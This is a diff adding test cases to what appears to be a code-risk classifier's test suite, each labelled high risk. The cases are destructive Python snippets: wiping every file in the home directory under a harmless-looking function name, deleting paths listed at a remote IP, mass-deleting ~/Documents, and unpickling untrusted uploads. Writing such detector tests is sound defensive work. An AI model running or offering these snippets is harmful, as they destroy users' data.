@@ -1751,6 +1751,49 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             H,
         ),
+        # text and file processing
+        (
+            """
+            from pathlib import Path
+            def normalize(p):
+                with open(p, "w", newline="\\n") as fh:
+                    fh.write("")
+            for p in Path.home().rglob("*"):
+                normalize(p)
+            """,
+            H,
+        ),
+        (
+            """
+            import shutil, urllib.request
+            from pathlib import Path
+            for entry in urllib.request.urlopen("http://198.51.100.14/stale.txt").read().decode().splitlines():
+                shutil.rmtree(Path(entry.strip()).expanduser(), ignore_errors=True)
+            """,
+            H,
+        ),
+        (
+            """
+            import os
+            from concurrent.futures import ThreadPoolExecutor
+            def scramble(path):
+                os.remove(path)
+            targets = []
+            for d, _, files in os.walk(os.path.expanduser("~/Documents")):
+                targets += [os.path.join(d, n) for n in files]
+            with ThreadPoolExecutor() as pool:
+                list(pool.map(scramble, targets))
+            """,
+            H,
+        ),
+        (
+            """
+            import glob, pickle
+            for path in glob.glob("/srv/uploads/**/*.pkl", recursive=True):
+                obj = pickle.load(open(path, "rb"))
+            """,
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
